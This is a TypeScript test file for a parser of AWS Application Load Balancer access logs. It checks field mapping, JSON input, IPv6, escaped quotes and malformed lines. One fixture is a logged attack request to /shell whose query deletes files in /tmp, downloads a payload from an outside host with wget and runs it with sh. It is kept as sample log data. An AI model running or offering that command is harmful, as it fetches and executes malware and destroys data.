import { ALB_ACCESS, parseAlbAccess } from "../../../core/parsers/alb-access";
import { splitDelimited } from "../../../core/parsers/delimited";
import { parsedFlat } from "../../support/flat-fields";

const fieldsOf = (line: string) => parsedFlat(parseAlbAccess, line)?.fields;

const TARGETS = "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067";
const CERTIFICATE = "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012";

/** "Access logs for your Application Load Balancer", Example HTTPS entry, with the fields that were added since. */
const HTTPS =
  "https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 " +
  `"GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 ${TARGETS} ` +
  `"Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "${CERTIFICATE}" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" ` +
  '"-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "www.example.org" "/new" "TransformSuccess" 10.0.0.9';

/** By the names of Elastic's integration `aws`, data_stream/elb_logs; it has none for the last five. */
const HTTPS_FIELDS = {
  "event.dataset": "aws.alb_access",
  "event.start": "2018-07-02T22:22:48.364000Z",
  "event.end": "2018-07-02T22:23:00.186641Z",
  "event.duration": 11_822_641_000,
  "event.outcome": "success",
  "source.address": "192.168.131.39",
  "source.ip": "192.168.131.39",
  "source.port": 2817,
  "destination.domain": "www.example.com",
  "http.request.method": "GET",
  "http.request.bytes": 0,
  "http.response.bytes": 57,
  "http.response.status_code": 200,
  "http.version": "1.1",
  "url.original": "https://www.example.com:443/",
  "url.scheme": "https",
  "url.domain": "www.example.com",
  "url.port": 443,
  "url.path": "/",
  "user_agent.original": "curl/7.46.0",
  "tls.cipher": "ECDHE-RSA-AES128-GCM-SHA256",
  "tls.version": "1.2",
  "tls.version_protocol": "tls",
  "trace.id": "Root=1-58337281-1d84f3d73c47ec4e58577259",
  "aws.elb.type": "https",
  "aws.elb.name": "app/my-loadbalancer/50dc6c495c0c9188",
  "aws.elb.backend.ip": "10.0.0.1",
  "aws.elb.backend.port": 80,
  "aws.elb.backend.http.response.status_code": 200,
  "aws.elb.request_processing_time.sec": 0.086,
  "aws.elb.backend_processing_time.sec": 0.048,
  "aws.elb.response_processing_time.sec": 0.037,
  "aws.elb.ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
  "aws.elb.ssl_protocol": "TLSv1.2",
  "aws.elb.target_group.arn": TARGETS,
  "aws.elb.trace_id": "Root=1-58337281-1d84f3d73c47ec4e58577259",
  "aws.elb.chosen_cert.arn": CERTIFICATE,
  "aws.elb.matched_rule_priority": 1,
  "aws.elb.action_executed": ["authenticate", "forward"],
  "aws.elb.target_port": ["10.0.0.1:80"],
  "aws.elb.target_status_code": ["200"],
  "aws.elb.conn_trace_id": "TID_1234abcd5678ef90",
  "aws.elb.transformed_host": "www.example.org",
  "aws.elb.transformed_uri": "/new",
  "aws.elb.request_transform_status": "TransformSuccess",
  "aws.elb.ip_address": "10.0.0.9",
};

describe("an ALB's access log", () => {
  it("has each field where ECS or Elastic's integration has it", () => {
    expect(fieldsOf(HTTPS)).toEqual(HTTPS_FIELDS);
    expect(parseAlbAccess(HTTPS)?.time).toBe(Date.parse("2018-07-02T22:23:00.186Z"));
  });

  it("takes the JSON form, whose numbers may be numbers or texts", () => {
    const texts = splitDelimited(HTTPS).map((text, i) => [ALB_ACCESS.names[i], text] as const);
    const members = Object.fromEntries(texts);
    expect(fieldsOf(JSON.stringify(members))).toEqual(HTTPS_FIELDS);
    const numbers = { elb_status_code: 200, received_bytes: 0, request_processing_time: 0.086, error_reason: null };
    expect(fieldsOf(JSON.stringify({ ...members, ...numbers }))).toEqual(HTTPS_FIELDS);
    const exact = JSON.stringify(members).replace('"0.086"', "0.0860");
    expect(JSON.stringify(parseAlbAccess(exact))).toContain('"request_processing_time":{"sec":{"text":"0.0860"}}');
    expect(fieldsOf(JSON.stringify({ ...members, new_field: "new" }))).toEqual({
      ...HTTPS_FIELDS,
      "aws.elb.additional_fields": ["new_field=new"],
    });
  });

  // The page's other examples, and lines of Elastic's integration: data_stream/elb_logs/_dev/test/pipeline/test-alb.log.
  it.each([
    [
      "a target that is a function and failed",
      `http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ${TARGETS} "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse"`,
      { "event.outcome": "failure", "http.response.status_code": 502, "aws.elb.error.reason": "LambdaInvalidResponse" },
      ["aws.elb.backend.ip", "aws.elb.backend.http.response.status_code", "tls.cipher", "aws.elb.target_port"],
    ],
    [
      "an HTTP/2 stream with a redirect",
      `h2 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:9000 0.000 0.002 0.000 200 200 5 257 "GET https://10.0.2.105:773/ HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 ${TARGETS} "Root=1-58337327-72bd00b0343d75b906739c42" "-" "-" 1 2018-07-02T22:22:48.364000Z "redirect" "https://example.com:80/" "-"`,
      {
        "aws.elb.type": "h2",
        "http.version": "2.0",
        "aws.elb.redirect_url": "https://example.com:80/",
        "url.port": 773,
      },
      ["destination.domain"],
    ],
    [
      "a WebSockets connection",
      `ws 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:40914 10.0.1.192:8010 0.001 0.003 0.000 101 101 218 587 "GET http://10.0.0.30:80/ HTTP/1.1" "-" - - ${TARGETS} "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-"`,
      { "aws.elb.type": "ws", "event.outcome": "success", "http.response.status_code": 101 },
      ["user_agent.original"],
    ],
    [
      "a URL with a space, and no target",
      'http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri"',
      {
        "url.path": "/shell",
        "url.query": "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
        "user_agent.original": "Hello, world",
        "aws.elb.classification_reason": "SpaceInUri",
      },
      ["aws.elb.request_processing_time.sec", "aws.elb.target_group.arn", "aws.elb.additional_fields"],
    ],
    [
      "a malformed request",
      'http 2025-05-01T11:24:32.748149Z app/internal-service-alb/abcd1234efgh5678 127.0.0.1:57273 - -1 -1 -1 200 - 0 272 "- http://internal-service-alb.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000',
      { "url.domain": "internal-service-alb.example.com", "url.port": 80, "url.path": "/" },
      ["http.request.method", "http.version", "trace.id", "aws.elb.matched_rule_priority"],
    ],
    // awslogsencodingextension of OpenTelemetry, elb-access-log/testdata/alb_al_valid_logs.log.
    [
      "IPv6",
      HTTPS.replace("192.168.131.39:2817 10.0.0.1:80", "[fe80::202:b3ff:fe1e:8329]:443 [2001:db8::1]:80"),
      { "source.ip": "fe80::202:b3ff:fe1e:8329", "source.port": 443, "aws.elb.backend.ip": "2001:db8::1" },
      [],
    ],
    // DataBiosphere/azul #4920: a quote of the client's.
    [
      "an escaped quote",
      HTTPS.replace("443/ HTTP/1.1", String.raw`443/a?bar=\x22 HTTP/2.0`),
      { "url.query": String.raw`bar=\x22`, "url.path": "/a", "http.version": "2.0" },
      [],
    ],
    [
      "more fields than AWS documents, and the dashes that precede a new one",
      `${HTTPS} - "new field" "-"`,
      { "aws.elb.ip_address": "10.0.0.9", "aws.elb.additional_fields": ["new field"] },
      [],
    ],
    [
      "as many fields as in 2016",
      HTTPS.slice(0, HTTPS.indexOf(' "www.example.com"')),
      { "trace.id": "Root=1-58337281-1d84f3d73c47ec4e58577259" },
      ["event.start", "event.duration"],
    ],
    ["a rule that failed", HTTPS.replace('" 1 2018', '" -1 2018'), {}, ["aws.elb.matched_rule_priority"]],
    [
      "targets tried in turn",
      HTTPS.replace('"10.0.0.1:80" "200"', '"10.0.0.1:80 10.0.0.2:80" "- 200"'),
      {
        "aws.elb.target_port": ["10.0.0.1:80", "10.0.0.2:80"],
        "aws.elb.target_status_code": ["-", "200"],
      },
      [],
    ],
  ])("has %s", (_, line, expected, absent) => {
    const fields = fieldsOf(line);
    expect(fields).toMatchObject(expected);
    expect(Object.keys(fields ?? {}).filter((name) => (absent as string[]).includes(name))).toEqual([]);
  });

  it.each([
    "Enable AccessLog for ELB: my-loadbalancer at 2026-11-27T05:00:00Z",
    '{"type":"http","time":"2026-11-27T05:00:00Z"}',
    '{"type":"http","time":"2026-11-27T05:00:00Z","elb":{"id":"app/a/b"}}',
    '{"type":"http"',
    "http 2026-02-30T05:00:00Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817",
    "",
  ])("leaves other messages alone: %s", (message) => {
    expect(parseAlbAccess(message)).toBeUndefined();
  });
});
